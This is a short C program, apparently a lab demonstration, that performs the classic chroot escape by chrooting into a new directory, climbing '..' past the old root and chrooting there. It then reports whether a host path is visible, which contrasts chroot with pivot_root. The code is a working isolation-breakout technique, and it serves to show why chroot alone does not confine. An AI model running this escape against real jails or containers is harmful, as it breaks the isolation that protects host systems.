/* The classic chroot escape, for docs/LAB.md: chroot into a subdirectory while the working
 * directory stays outside it, climb ".." past the old root, and chroot there. Under chroot(2)
 * this reaches the host's root; after pivot_root(2) there is nothing above the container's root.
 * It then says whether the host path given as its argument is visible. */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: escape HOST-PATH\n");
        return 2;
    }
    mkdir("/escape-dir", 0755);
    if (chroot("/escape-dir") != 0) {
        perror("chroot /escape-dir");
        return 1;
    }
    for (int i = 0; i < 64; i++) {
        if (chdir("..") != 0) {
            perror("chdir ..");
            return 1;
        }
    }
    if (chroot(".") != 0) {
        perror("chroot .");
        return 1;
    }
    if (access(argv[1], F_OK) == 0) {
        printf("escaped: the host's %s is visible\n", argv[1]);
    } else {
        printf("still inside: no %s above the container's root\n", argv[1]);
    }
    return 0;
}
